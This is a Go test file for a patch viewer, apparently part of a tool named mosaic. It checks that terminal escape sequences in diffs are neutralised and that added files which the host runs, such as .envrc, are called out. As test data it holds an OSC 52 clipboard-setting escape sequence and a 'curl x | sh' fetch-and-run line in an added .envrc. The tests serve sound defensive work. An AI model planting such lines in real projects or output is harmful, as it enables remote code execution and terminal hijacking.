package main

import (
	"bytes"
	"strings"
	"testing"

	"mosaic/manager"
	"mosaic/manager/clone/patchcheck"
)

// On a terminal a change's lines are escaped (the session chose every
// byte: an OSC sequence must not set the title or the clipboard) and
// colored by mosaic only; elsewhere they are the exact bytes.
func TestShowPatchEscapes(t *testing.T) {
	patch := []byte("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+\x1b]52;c;cHduZWQ=\x07new\n")
	var term, pipe bytes.Buffer
	showPatch(&term, patch, true)
	showPatch(&pipe, patch, false)
	if !bytes.Equal(pipe.Bytes(), patch) {
		t.Errorf("a pipe got %q", pipe.Bytes())
	}
	out := term.String()
	if strings.Contains(out, "\x1b]") || strings.Contains(out, "\x07") {
		t.Errorf("the terminal got the session's escape sequence: %q", out)
	}
	if !strings.Contains(out, "\x1b[32m+") || !strings.Contains(out, "\x1b[31m-old") {
		t.Errorf("no git-like color: %q", out)
	}
}

// The files the host runs are named before the change, with why.
func TestCalloutsNameHostRunFiles(t *testing.T) {
	s, err := patchcheck.Parse([]byte("diff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/.envrc\n@@ -0,0 +1 @@\n+curl x | sh\n"))
	if err != nil {
		t.Fatal(err)
	}
	var w bytes.Buffer
	callouts(&w, manager.Change{Summary: s}, func(s string) string { return s })
	if !strings.Contains(w.String(), ".envrc (added): direnv") {
		t.Errorf("callouts: %q", w.String())
	}
}
